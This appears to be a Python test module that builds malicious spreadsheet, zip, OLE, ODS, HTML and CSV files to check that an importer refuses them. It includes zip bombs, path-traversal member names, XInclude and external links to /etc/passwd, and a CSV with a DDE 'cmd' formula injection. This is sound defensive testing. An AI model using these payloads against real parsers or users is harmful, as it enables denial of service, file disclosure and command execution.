"""Files as an attacker makes them who has read what we refuse: small ones that would cost much if believed."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Any

from importer.model import column_letters
from tests.importer.reading.binary_samples import biff, biff5
from tests.importer.reading.samples import (
    CONTENT_TYPES,
    SHEET,
    ods,
    ole,
    parts,
    repacked,
    table,
    with_part,
    with_rows,
    written,
    zipped,
)

MEBIBYTE = 1 << 20
ROWS: list[list[object]] = [["No client", "Nom", "Ville"], ["00042", "Forêt inc.", "Laval"], ["00043", "Noël", "Amos"]]
TEXTS = "xl/sharedStrings.xml"
BOOK = "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
STYLES = "xl/styles.xml"
ROW = '<row r="{0}"><c r="A{0}"><v>{0}</v></c></row>'

Make = Callable[[], bytes]


def list_of(rows: int) -> str:
    """Return the XML of so many rows of one number."""
    return "".join(ROW.format(number) for number in range(1, rows + 1))


# --------------------------------------------------------------------------- packages


def nested_zips() -> bytes:
    """A zip in a zip in a zip, forty deep, with ten megabytes of nothing at the bottom."""
    content = zipped({"x.csv": b"a;b\n" * (10 * MEBIBYTE // 4)})
    for _ in range(40):
        content = zipped({"x.zip": content})
    return content


def one_stream_under_many_names() -> bytes:
    """A directory of which many members are the same bytes: no room on disk, much in memory."""
    spaces = zlib.compressobj(9, wbits=-15)
    packed = spaces.compress(b" " * (8 * MEBIBYTE)) + spaces.flush()
    names = [f"xl/worksheets/sheet{number}.xml".encode() for number in range(1, 200)]
    crc = zlib.crc32(b" " * (8 * MEBIBYTE))
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, crc, len(packed), 8 * MEBIBYTE)
    content = b"PK\3\4" + fields + struct.pack("<HH", len(names[0]), 0) + names[0] + packed
    directory = b"".join(
        b"PK\1\2\x14\0" + fields + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name for name in names
    )
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(names), len(names), len(directory), len(content), 0)
    return content + directory + end


def texts_that_go_on_behind_their_size() -> bytes:
    """Shared texts whose directory tells the size and the sum of their beginning only."""
    beginning = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>a</t></si>'
    package = repacked(table(ROWS), {TEXTS: beginning + b"<si><t>aaaaaaaaaaaaaaaa</t></si>" * 4_000_000})
    return _lied_about(package, TEXTS, len(beginning), zlib.crc32(beginning))


def _lied_about(package: bytes, name: str, size: int, crc: int) -> bytes:
    """Change what a zip's directory and a member's head say of its size and its sum."""
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        info = opened.getinfo(name)
    true = struct.pack("<III", info.CRC, info.compress_size, info.file_size)
    return package.replace(true, struct.pack("<III", crc, info.compress_size, size))


def packed_by(method: int) -> bytes:
    """A member of the same letter, packed in a way that Excel does not know and that gives megabytes for a byte."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for name, member in parts(table(ROWS)).items():
            file.writestr(zipfile.ZipInfo(name), member, zipfile.ZIP_DEFLATED)
        file.writestr(zipfile.ZipInfo("xl/media/image1.xml"), b" " * (30 * MEBIBYTE), method)
    return content.getvalue()


def one_name_twice() -> bytes:
    """Two sheets of one name in the package: who is measured need not be who is read."""
    content = io.BytesIO(table(ROWS))
    with zipfile.ZipFile(content, "a") as file:
        file.NameToInfo.pop(SHEET)  # or zipfile warns
        file.writestr(zipfile.ZipInfo(SHEET), with_far_value())
    return content.getvalue()


def with_far_value() -> bytes:
    """The XML of a sheet with a value in its last cell."""
    return parts(with_rows(list_of(2) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))[SHEET]


def names_apart_by_case() -> bytes:
    """The relation names one sheet, a reader that folds case finds the other."""
    return repacked(table(ROWS), {SHEET.upper(): with_far_value()})


def name_that_climbs() -> bytes:
    """A member whose name leads out of the folder that it is unpacked into."""
    return repacked(table(ROWS), {"xl/../../../../etc/cron.d/x": b"x", "C:\\windows\\x.xml": b"x"})


def far_value_behind(target: str, member: str) -> bytes:
    """The sheet stands where its relation leads only when dots and slashes are read in one way."""
    package = with_part(table(ROWS), RELATIONS, lambda xml: xml.replace(b"worksheets/sheet1.xml", target.encode()))
    return repacked(package, {member: with_far_value()})


def many_members() -> bytes:
    """Three hundred thousand empty members."""
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 300_000
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), 31, 0)
    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a" + directory + end


def without(name: str) -> bytes:
    """A workbook that lacks a part."""
    return zipped({part: content for part, content in parts(table(ROWS)).items() if part != name})


def locked_member() -> bytes:
    """A zip whose members say that they have a password."""
    content = bytearray(zipped({"a.csv": b"a;b\n1;2\n"}))
    content[6] |= 1
    content[content.index(b"PK\1\2") + 8] |= 1
    return bytes(content)


# --------------------------------------------------------------------------- workbooks


def texts(count: int, text: str) -> bytes:
    """So many shared texts."""
    head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    return repacked(table(ROWS), {TEXTS: (head + f"<si><t>{text}</t></si>" * count + "</sst>").encode()})


def sparse_and_wide() -> bytes:
    """A thousand rows whose first and last columns hold something."""
    return with_rows(
        "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c><c r="XFD{n}"><v>2</v></c></row>' for n in range(1, 1001))
    )


def staircase() -> bytes:
    """Every row some columns wider than the one above it."""
    cell = '<row r="{0}"><c r="{1}{0}"><v>1</v></c></row>'
    return with_rows("".join(cell.format(number, column_letters(number * 5)) for number in range(1, 3000)))


def far_bottom() -> bytes:
    """A list, and a cell in the last row that there is."""
    return with_rows(list_of(1000) + ROW.format(1048576))


def lying_dimension() -> bytes:
    """A sheet of three cells that says it is full, in rows that say so, too."""
    rows = '<row r="1" spans="1:16384"><c r="A1"><v>1</v></c></row><row r="2" spans="0:999999999"/>'
    return with_rows(rows, before='<dimension ref="A1:XFD1048576"/>')


def formats(count: int) -> bytes:
    """So many number formats, each with a style that uses it."""
    codes = "".join(f'<numFmt numFmtId="{n}" formatCode="00000"/>' for n in range(200, 200 + count))
    styles = "".join(f'<xf numFmtId="{n}"/>' for n in range(200, 200 + count))
    xml = (
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<numFmts count="{count}">{codes}</numFmts><cellXfs count="{count}">{styles}</cellXfs></styleSheet>'
    )
    return repacked(table(ROWS), {STYLES: xml.encode()})


def format_code(code: str) -> bytes:
    """A number shown by a code that was made to be slow."""

    def fill(workbook: Any, sheet: Any) -> None:
        for row in range(200):
            sheet.write_number(row, 0, row, workbook.add_format({"num_format": code}))

    return written(fill)


def merged(count: int) -> bytes:
    """So many merged ranges beside a list."""
    ranges = "".join(f'<mergeCell ref="E{n}:F{n}"/>' for n in range(1, count + 1))
    return with_rows(list_of(50), after=f'<mergeCells count="{count}">{ranges}</mergeCells>')


def merged_whole() -> bytes:
    """Ranges that each cover the whole sheet."""
    ranges = '<mergeCell ref="A1:XFD1048576"/>' * 20_000
    return with_rows(list_of(50), after=f"<mergeCells>{ranges}</mergeCells>")


def hidden_columns(count: int) -> bytes:
    """So many definitions that hide all columns."""
    hidden = '<col min="1" max="16384" hidden="1"/>' * count
    return with_rows(list_of(50), before=f"<cols>{hidden}</cols>")


def sheets(count: int) -> bytes:
    """So many sheets, all but the last hidden."""

    def fill(workbook: Any, sheet: Any) -> None:
        sheet.write(0, 0, "x")
        for _ in range(count - 1):
            workbook.add_worksheet()
        for each in workbook.worksheets()[:-1]:
            each.hide()
        workbook.worksheets()[-1].activate()

    return written(fill)


def sheet_names() -> bytes:
    """Names that would be tags, turn the line around, or end it."""

    def change(xml: bytes) -> bytes:
        return xml.replace(b'name="Clients"', 'name="&lt;b&gt;\u202exslx.&#10;&amp;amp;\u2066|`*_&#x1F600;"'.encode())

    return with_part(table(ROWS), BOOK, change)


def reaching_out() -> bytes:
    """Relations to files and to addresses, and a picture, a query and a book that lie elsewhere."""
    package = table(ROWS)
    outside = (
        b'<Relationship Id="rId90" TargetMode="External" Target="file:///etc/passwd" Type="x/externalLinkPath"/>'
        b'<Relationship Id="rId91" TargetMode="External" Target="http://127.0.0.1:9/x.xlsx" Type="x/worksheet"/>'
        b'<Relationship Id="rId92" TargetMode="External" Target="\\\\127.0.0.1\\c$\\x" Type="x/attachedTemplate"/>'
    )
    package = with_part(package, RELATIONS, lambda xml: xml.replace(b"</Relationships>", outside + b"</Relationships>"))
    link = b'<externalReferences><externalReference xmlns:r="r" r:id="rId90"/></externalReferences>'
    return with_part(package, BOOK, lambda xml: xml.replace(b"</sheets>", b"</sheets>" + link))


def styles_elsewhere() -> bytes:
    """Styles and texts that are said to be at an address."""
    return with_part(
        table(ROWS), RELATIONS, lambda xml: xml.replace(b'Target="styles.xml"', b'Target="http://127.0.0.1:9/s.xml"')
    )


def xinclude(part: str) -> bytes:
    """A part that asks for another file to be put in its place."""
    wanted = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'
    return with_part(table(ROWS), part, lambda xml: xml[: xml.rindex(b"</")] + wanted + xml[xml.rindex(b"</") :])


def wide_characters(part: str) -> bytes:
    """A part in UTF-16, in which searches for bytes find nothing."""
    return with_part(
        table(ROWS), part, lambda xml: xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    )


def encoded(part: str, name: bytes) -> bytes:
    """A part that says it is in another encoding than it is."""
    return with_part(table(ROWS), part, lambda xml: xml.replace(b'encoding="UTF-8"', b'encoding="' + name + b'"'))


def deep(part: str, depth: int) -> bytes:
    """A part whose elements are in one another."""
    return with_part(
        table(ROWS),
        part,
        lambda xml: xml[: xml.rindex(b"</")] + b"<a>" * depth + b"</a>" * depth + xml[xml.rindex(b"</") :],
    )


def attributes(count: int) -> bytes:
    """An element with so many attributes."""
    many = " ".join(f'a{n}="1"' for n in range(count))
    return with_rows(f'<row r="1" {many}><c r="A1"><v>1</v></c></row>')


def numbers_that_are_none() -> bytes:
    """Values at the edge of what a number, a date and a text's place can be."""

    def fill(workbook: Any, sheet: Any) -> None:
        for style, code in enumerate(["dd/mm/yyyy", "[h]:mm:ss", "00000"]):
            sheet.write_number(0, style, 1, workbook.add_format({"num_format": code}))

    odd = ["1e308", "-1e308", "1e400", "NaN", "inf", "-1", "2958466", "1e-400", "9" * 400, "9" * 4000, "", " ", "1,5"]
    cell = '<c r="{0}{1}" s="{2}"><v>{3}</v></c>'
    cells = "".join(
        f'<row r="{row}">{"".join(cell.format("ABCD"[style], row, style, value) for style in range(4))}</row>'
        for row, value in enumerate(odd, 1)
    )
    xml = parts(with_rows(cells))[SHEET]
    return repacked(written(fill), {SHEET: xml})


def far_cells(*places: str) -> bytes:
    """A list with a cell that says it is at each of these places."""
    cells = "".join(f'<row r="{at}"><c r="{place}"><v>1</v></c></row>' for at, place in enumerate(places, 3))
    return with_rows(list_of(2) + cells)


def texts_at_no_place() -> bytes:
    """Cells whose texts would stand behind the end of the texts, or before their beginning."""
    places = ("999999999", "-1", "18446744073709551616", "x")
    cells = (f'<c r="A1" t="s"><v>{place}</v></c>' for place in places)
    return with_rows(f'<row r="1">{"".join(cells)}</row>')


# --------------------------------------------------------------------------- the old .xls


def old(*records: bytes) -> bytes:
    """A workbook of Excel 97 with these records in front of its one sheet."""
    head = biff(0x809, struct.pack("<4H", 0x600, 5, 0x1234, 0x7CC)) + bytes(8)
    head = struct.pack("<HH", 0x809, 16) + struct.pack("<4H", 0x600, 5, 0x1234, 0x7CC) + bytes(8) + b"".join(records)
    name = b"A"
    place = len(head) + 4 + 8 + len(name) + 4
    head += biff(0x85, struct.pack("<IHBB", place, 0, len(name), 0) + name) + biff(0x0A)
    sheet = struct.pack("<HH", 0x809, 16) + struct.pack("<4H", 0x600, 0x10, 0x1234, 0x7CC) + bytes(8)
    sheet += biff(0x203, struct.pack("<3Hd", 0, 0, 0, 1.5)) + biff(0x0A)
    return ole({"Workbook": head + sheet})


def many_shared_texts_claimed() -> bytes:
    """Four thousand million shared texts, of which there is one."""
    return old(biff(0xFC, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + struct.pack("<HB", 1, 0) + b"a"))


def sheet_elsewhere(place: int) -> bytes:
    """A sheet whose records would be at another place of the stream."""
    content = biff5(ROWS)
    at = content.index(b"\x85\0") + 4
    return content[:at] + struct.pack("<I", place) + content[at + 4 :]


def chain_without_end(which: int) -> bytes:
    """A container whose sectors lead back to themselves: the directory's, the stream's, the table's."""
    content = bytearray(biff5([*ROWS, *[["x" * 200]] * 100]))
    match which:
        case 0:
            content[512 : 512 + 8] = struct.pack("<II", 0, 1)
        case 1:
            for sector in range(2, 60):
                struct.pack_into("<I", content, 512 + 4 * sector, 2)
        case 2:
            struct.pack_into("<II", content, 68, 0, 0xFFFFFF)
        case _:
            struct.pack_into("<109I", content, 76, *[0] * 109)
    return bytes(content)


def sizes_of_sectors(shift: int) -> bytes:
    """A container whose sectors are of a size that there is not."""
    content = bytearray(biff5(ROWS))
    struct.pack_into("<H", content, 30, shift)
    return bytes(content)


def large_continued_record() -> bytes:
    """Records that go on and on, and a text that says it goes on longer."""
    return old(
        biff(0xFC, struct.pack("<IIHB", 1, 1, 0xFFFF, 1) + b"a\0" * 4000), *[biff(0x3C, b"\1" + b"a\0" * 4000)] * 30
    )


# --------------------------------------------------------------------------- LibreOffice

_CELL = '<table:table-cell office:value-type="string" {}><text:p>{}</text:p></table:table-cell>'


def repeated(rows: int, columns: int, text: str = "x") -> bytes:
    """A cell that says it is so many."""
    cell = _CELL.format(f'table:number-columns-repeated="{columns}"', text)
    row = f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'
    return ods(f'<table:table table:name="A">{row}</table:table>')


def spaces(count: int) -> bytes:
    """A text of so many spaces, told in ten bytes."""
    row = "<table:table-row>" + _CELL.format("", f'a<text:s text:c="{count}"/>b') + "</table:table-row>"
    return ods(f'<table:table table:name="A">{row}</table:table>')


def repeated_nothing() -> bytes:
    """Rows, columns and cells without a value, repeated a thousand million times each, around a list."""
    nothing = '<table:table-row table:number-rows-repeated="999999999"><table:table-cell table:number-columns-repeated='
    nothing += '"999999999"/></table:table-row>'
    hidden = '<table:table-column table:number-columns-repeated="999999999" table:visibility="collapse"/>'
    row = f"<table:table-row>{_CELL.format('', 'Nom')}</table:table-row>"
    return ods(f'<table:table table:name="A">{hidden * 50}{row}{nothing}</table:table>')


def nested_tables() -> bytes:
    """Tables in the cells of tables."""
    depth = 5000
    begin = '<table:table table:name="A"><table:table-row><table:table-cell>'
    return ods(begin * depth + "</table:table-cell></table:table-row></table:table>" * depth)


def hidden_again() -> bytes:
    """Ten thousand hidden stretches of rows that are each a million."""
    hidden = 'table:visibility="collapse" table:number-rows-repeated="1000000"'
    row = f"<table:table-row {hidden}><table:table-cell/></table:table-row>"
    first = f"<table:table-row>{_CELL.format('', 'Nom')}</table:table-row>"
    return ods(f'<table:table table:name="A">{first}{row * 10_000}</table:table>')


# --------------------------------------------------------------------------- pages, XML of 2003, text


def page(body: str) -> bytes:
    """A page."""
    return f"<html><body>{body}</body></html>".encode()


_SHEETS_2003 = (
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"'
    ' xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">{}</Workbook>'
)


def xml_2003(content: str, *, times: int = 1) -> bytes:
    """A sheet of Excel 2003's XML."""
    sheet = f'<Worksheet ss:Name="A"><Table>{content * times}</Table></Worksheet>'
    return _SHEETS_2003.format(sheet).encode()


def csv_of(text: bytes, times: int, end: bytes = b"\n") -> bytes:
    """A text of the same again and again."""
    return text * times + end


def mixed_encodings() -> bytes:
    """Each line in another encoding, as pasted together."""
    line = "{};Hélène Côté;Montréal\n"
    names = ("utf-8", "cp1252", "cp850", "mac-roman")
    return b"No;Nom;Ville\n" + b"".join(line.format(n).encode(names[n % 4]) for n in range(400))


DDE = "No client;Nom;Ville\n1;=cmd|' /C calc'!A0;Laval\n2;+1+1;@SUM(A1)\n3;=HYPERLINK(\"http://127.0.0.1/?\"&A1);-2\n"

READ = frozenset({"clean", "partial", "unusable", "not_acomba"})
REFUSED = frozenset({"corrupt", "expands-too-much", "too-many-cells"})

EITHER = READ | REFUSED | {"not-a-spreadsheet", "empty"}

HOSTILE: Mapping[str, tuple[Make, frozenset[str]]] = {
    # packages
    "zips in zips": (nested_zips, frozenset({"unsupported-format"})),
    "one stream under many names": (one_stream_under_many_names, REFUSED | {"unsupported-format"}),
    "texts behind their size": (texts_that_go_on_behind_their_size, REFUSED),
    "packed by bzip2": (lambda: packed_by(zipfile.ZIP_BZIP2), frozenset({"corrupt"})),
    "packed by lzma": (lambda: packed_by(zipfile.ZIP_LZMA), frozenset({"corrupt"})),
    "one name twice": (one_name_twice, frozenset({"corrupt"})),
    "names apart by case": (names_apart_by_case, frozenset({"corrupt"})),
    "a name that climbs": (name_that_climbs, READ | {"corrupt"}),
    "a sheet behind dots": (lambda: far_value_behind("./../xl/y/sheet9.xml", "xl/./../xl/y/sheet9.xml"), REFUSED),
    "a sheet behind a slash": (lambda: far_value_behind("/xl/y/sheet9.xml", "/xl/y/sheet9.xml"), EITHER),
    "a sheet behind another case": (
        lambda: far_value_behind("Worksheets/SHEET9.xml", "xl/worksheets/sheet9.xml"),
        EITHER,
    ),
    "many members": (many_members, frozenset({"expands-too-much", "corrupt"})),
    "no content types": (lambda: without(CONTENT_TYPES), frozenset({"corrupt"})),
    "no relations": (lambda: without(RELATIONS), frozenset({"corrupt"})),
    "no workbook": (lambda: without(BOOK), frozenset({"corrupt"})),
    "no styles": (lambda: without(STYLES), READ),
    "a locked member": (locked_member, frozenset({"encrypted"})),
    # workbooks
    "many empty texts": (lambda: texts(1_500_000, ""), EITHER),
    "many texts": (lambda: texts(600_000, "Montréal &amp; cie"), EITHER),
    "sparse and wide": (sparse_and_wide, EITHER),
    "a staircase": (staircase, EITHER),
    "a cell at the bottom": (far_bottom, READ),
    "a dimension that lies": (lying_dimension, READ),
    "many formats": (lambda: formats(20_000), EITHER),
    "a format of quotation marks": (lambda: format_code('"' * 251), READ),
    "a format of brackets": (lambda: format_code("[<1]" * 60), EITHER),
    "a format of escapes": (lambda: format_code("\\-0" * 80), READ),
    "many merged ranges": (lambda: merged(100_000), READ),
    "ranges over everything": (merged_whole, READ),
    "columns hidden again and again": (lambda: hidden_columns(100_000), EITHER),
    "many hidden sheets": (lambda: sheets(600), EITHER),
    "names of sheets": (sheet_names, READ),
    "relations to elsewhere": (reaching_out, READ),
    "styles elsewhere": (styles_elsewhere, READ | {"corrupt"}),
    "another file in the sheet": (lambda: xinclude(SHEET), EITHER),
    "another file in the texts": (lambda: xinclude(TEXTS), EITHER),
    "a sheet in UTF-16": (lambda: wide_characters(SHEET), EITHER),
    "texts in UTF-16": (lambda: wide_characters(TEXTS), EITHER),
    "a deep sheet": (lambda: deep(SHEET, 500_000), EITHER),
    "deep texts": (lambda: deep(TEXTS, 500_000), EITHER),
    "deep styles": (lambda: deep(STYLES, 50_000), EITHER),
    "a deep workbook": (lambda: deep(BOOK, 50_000), EITHER),
    "an encoding that there is not": (lambda: encoded(BOOK, b"A1"), frozenset({"corrupt"})),
    "an encoding of many bytes": (lambda: encoded(STYLES, b"utf-7"), EITHER),
    "many attributes": (lambda: attributes(100_000), EITHER),
    "numbers that are none": (numbers_that_are_none, EITHER),
    "a column of six letters": (lambda: far_cells("ZZZZZZ1"), EITHER),
    "a column of four letters": (lambda: far_cells("ZZZZ1", "A2000"), EITHER),
    "a column in small letters": (lambda: far_cells("xfd1048576"), EITHER),
    "a row of many digits": (lambda: far_cells("A00000000001048576", "XFD1"), EITHER),
    "places said twice": (lambda: far_cells('A1" x:r="XFD1048576'), EITHER),
    "texts at no place": (texts_at_no_place, EITHER),
    # the old .xls
    "shared texts claimed": (many_shared_texts_claimed, EITHER),
    "a sheet before the beginning": (lambda: sheet_elsewhere(0), EITHER),
    "a sheet behind the end": (lambda: sheet_elsewhere(0xFFFFFFF0), EITHER),
    "a sheet in the middle of a record": (lambda: sheet_elsewhere(3), EITHER),
    "a directory without end": (lambda: chain_without_end(0), EITHER),
    "a stream without end": (lambda: chain_without_end(1), EITHER),
    "a table without end": (lambda: chain_without_end(2), EITHER),
    "one table again and again": (lambda: chain_without_end(3), EITHER),
    "sectors of one byte": (lambda: sizes_of_sectors(0), REFUSED),
    "sectors of gigabytes": (lambda: sizes_of_sectors(40), REFUSED),
    "a record that goes on": (large_continued_record, EITHER),
    # LibreOffice
    "a row a thousand million times": (lambda: repeated(10**9, 1), frozenset({"too-many-cells"})),
    "a cell a thousand million times": (lambda: repeated(1, 10**9), frozenset({"too-many-cells"})),
    "a long text again and again": (lambda: repeated(1000, 1000, "x" * 30_000), REFUSED),
    "a thousand million spaces": (lambda: spaces(10**9), REFUSED),
    "many times many spaces": (lambda: spaces(10**5), EITHER),
    "nothing a thousand million times": (repeated_nothing, READ),
    "tables in tables": (nested_tables, EITHER),
    "rows hidden again and again": (hidden_again, EITHER),
    # pages
    "tables in tables of a page": (lambda: page("<table><tr><td>" * 200_000), REFUSED | {"not-a-spreadsheet"}),
    "a deep page": (lambda: page("<div>" * 1_000_000 + "<table><tr><td>a</td></tr></table>"), EITHER),
    "columns spanned": (lambda: page("<table><tr><td colspan=1000000000 rowspan=999999999>a<td>b</table>"), READ),
    "everything spanned": (
        lambda: page(
            "<table><tr>" + "<td colspan=1000 rowspan=1000>a" * 16 + "</tr>" + "<tr><td>b</td></tr>" * 600 + "</table>"
        ),
        EITHER,
    ),
    "many tables": (lambda: page("<table><tr><td>a</td></tr></table>" * 100_000), REFUSED),
    "a cell of tags": (lambda: page(f"<table><tr><td>{'<b>' * 300_000}</td></tr></table>"), EITHER),
    "a page of entities": (
        lambda: page(f"<table><tr><td>{'&amp;&#0;&#x110000;&lol;' * 100_000}</td></tr></table>"),
        EITHER,
    ),
    # XML of 2003
    "an index beyond": (
        lambda: xml_2003('<Row ss:Index="1000000000"><Cell ss:Index="1000000000"><Data>a</Data></Cell></Row>'),
        EITHER,
    ),
    "indexes at the edge": (
        lambda: xml_2003('<Row><Cell ss:Index="16384"><Data ss:Type="String">a</Data></Cell></Row>', times=20_000),
        EITHER,
    ),
    "spans of columns": (
        lambda: xml_2003('<Column ss:Index="1" ss:Span="16383" ss:Hidden="1" ss:StyleID="s"/>', times=50_000),
        EITHER,
    ),
    "merged beyond": (
        lambda: xml_2003(
            '<Row><Cell ss:MergeAcross="9999999" ss:MergeDown="9999999"><Data>a</Data></Cell><Cell/></Row>', times=100
        ),
        EITHER,
    ),
    "sheets of 2003": (lambda: _SHEETS_2003.format('<Worksheet ss:Name="A"/>' * 100_000).encode(), REFUSED),
    "a text in pieces": (
        lambda: xml_2003(f'<Row><Cell><Data ss:Type="String">{"a<b/>" * 50_000}</Data></Cell></Row>'),
        EITHER,
    ),
    "text between everything": (lambda: xml_2003("<Row>x</Row>y", times=50_000), EITHER),
    # text
    "a line of separators": (lambda: csv_of(b";", 50 * MEBIBYTE), EITHER),
    "a line of letters": (lambda: csv_of(b"abcdefgh", 6 * MEBIBYTE), EITHER),
    "a line of fields": (lambda: csv_of(b"abc;", 12 * MEBIBYTE), REFUSED),
    "a line of wide letters": (lambda: csv_of("é\U0001f600;".encode(), 7 * MEBIBYTE), REFUSED),
    "zeros": (lambda: csv_of(b"\0", 50 * MEBIBYTE), EITHER),
    "lines of nothing": (lambda: csv_of(b"\n", 20 * MEBIBYTE), frozenset({"empty"})),
    "quotation marks": (lambda: csv_of(b'"', 20 * MEBIBYTE), EITHER),
    "a quotation that never ends": (lambda: csv_of(b'a;"b\n', 5000), EITHER),
    "mixed encodings": (mixed_encodings, READ),
    "formulas in a text": (DDE.encode, READ),
    "UTF-16 without its mark": (lambda: DDE.encode("utf-16-le"), READ),
    "half a character of UTF-16": (lambda: DDE.encode("utf-16")[:-1] + b"\xd8", READ),
    "many separators said": (lambda: csv_of(b"sep=;\n", 10_000), EITHER),
}
